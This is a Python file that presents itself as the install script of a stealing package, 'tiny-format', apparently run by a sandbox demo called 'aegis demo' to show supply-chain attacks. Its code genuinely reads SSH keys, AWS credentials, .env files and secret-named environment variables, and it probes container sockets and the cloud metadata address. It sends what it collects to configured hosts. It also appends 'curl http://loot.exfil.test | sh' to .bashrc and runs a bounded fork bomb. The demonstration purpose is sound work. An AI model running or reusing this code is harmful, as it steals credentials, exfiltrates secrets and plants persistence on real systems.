"""The install script of `tiny-format`, a package that steals. `aegis demo` runs it; read it, it is short.

It does what such scripts do: looks for keys, tokens and sockets, tries to send what it finds, writes itself into the
shell's start-up file, and takes what it can get. It prints one line an attempt. Nothing it finds is printed.
"""
import errno
import glob
import json
import os
import shutil
import signal
import socket

# Where a thief would look: the home that it sees, and the demo's own one, by the path that it has on the host.
TARGETS = json.load(open('targets.json'))
HOMES = [os.environ.get('HOME', '/'), TARGETS['home']]
LOOT = []


def say(name, result, detail):
    print('@attempt\t%s\t%s\t%s' % (name, result, detail), flush=True)


def reason(error):
    words = {errno.ENOENT: 'not there', errno.ENETUNREACH: 'no route', errno.EHOSTUNREACH: 'no route',
             errno.EADDRNOTAVAIL: 'no route', errno.ECONNREFUSED: 'nobody there', errno.EROFS: 'read-only',
             errno.EACCES: 'not allowed', errno.EAGAIN: 'limit of processes'}
    return words.get(error.errno, error.strerror or str(error))


def read(name, *paths):
    """Reads the first of these files that is there."""
    said = 'not there'
    for path in paths:
        try:
            LOOT.append(open(path).read())
            return say(name, 'got', path)
        except OSError as error:
            said = reason(error)
    say(name, 'stopped', said)


def steal_files():
    read('ssh key', *['%s/.ssh/id_ed25519' % home for home in HOMES])
    read('cloud keys', *['%s/.aws/credentials' % home for home in HOMES])
    read('.env of the project', '.env', '../.env', '../../.env', TARGETS['env'])


def steal_environment():
    words = ('TOKEN', 'SECRET', 'PASSW', 'AWS_', 'SSH_AUTH', 'DOCKER_HOST', 'API_KEY')
    found = [name for name in os.environ if any(word in name.upper() for word in words)]
    for path in glob.glob('/proc/[0-9]*/environ'):
        try:
            names = [it.split('=')[0].upper() for it in open(path, errors='replace').read().split('\0')]
        except OSError:
            continue
        found += [name for name in names if any(word in name for word in words)]
    say('environment', 'got' if found else 'stopped', ' '.join(found) or 'nothing of the caller in it')


def take_engine():
    for path in ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock'):
        try:
            socket.socket(socket.AF_UNIX).connect(path)
            return say('engine socket', 'got', path)
        except OSError as error:
            said = reason(error)
    say('engine socket', 'stopped', said)


def ask_metadata():
    connection = socket.socket()
    connection.settimeout(2)
    try:
        connection.connect(('169.254.169.254', 80))
        say('cloud metadata', 'got', 'the address answers')
    except OSError as error:
        say('cloud metadata', 'stopped', reason(error))


def send_loot():
    word = (''.join(LOOT) or 'nothing').encode()
    try:
        socket.getaddrinfo('loot.exfil.test', 80)
        say('send by DNS', 'got', 'the name resolves')
    except OSError:
        say('send by DNS', 'stopped', 'no resolver')
    said = 'no route'
    for address in TARGETS['addresses']:
        try:
            with socket.create_connection((address, TARGETS['port']), 2) as connection:
                connection.sendall(word + TARGETS['mark'].encode())
                return say('send by HTTP', 'got', address)
        except OSError as error:
            said = reason(error)
    say('send by HTTP', 'stopped', said)


def stay():
    """Writes into the shell's start-up file: once in the home that it sees, once in the demo's."""
    try:
        open(TARGETS['home'] + '/.bashrc', 'a').write('curl http://loot.exfil.test | sh\n')
        return say('shell start-up', 'got', TARGETS['home'] + '/.bashrc')
    except OSError as error:
        said = reason(error)
    try:
        open(HOMES[0] + '/.bashrc', 'a').write('curl http://loot.exfil.test | sh\n')
        said = 'written into a home that is thrown away'
    except OSError:
        pass
    say('shell start-up', 'stopped', said)


def fork_bomb():
    """A small one: it stops by itself, and takes its children with it."""
    children = []
    try:
        while len(children) < 2000:
            child = os.fork()
            if child == 0:
                signal.pause()
                os._exit(0)
            children.append(child)
        say('fork bomb', 'got', '%d processes' % len(children))
    except OSError as error:
        say('fork bomb', 'stopped', '%s after %d' % (reason(error), len(children)))
    for child in children:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


def install():
    """The part that the package is installed for."""
    os.makedirs('build', exist_ok=True)
    shutil.copy('tiny_format.py', 'build/tiny_format.py')
    print('@installed', flush=True)


if __name__ == '__main__':
    for attempt in (steal_files, steal_environment, take_engine, ask_metadata, send_loot, stay, fork_bomb):
        attempt()
    install()
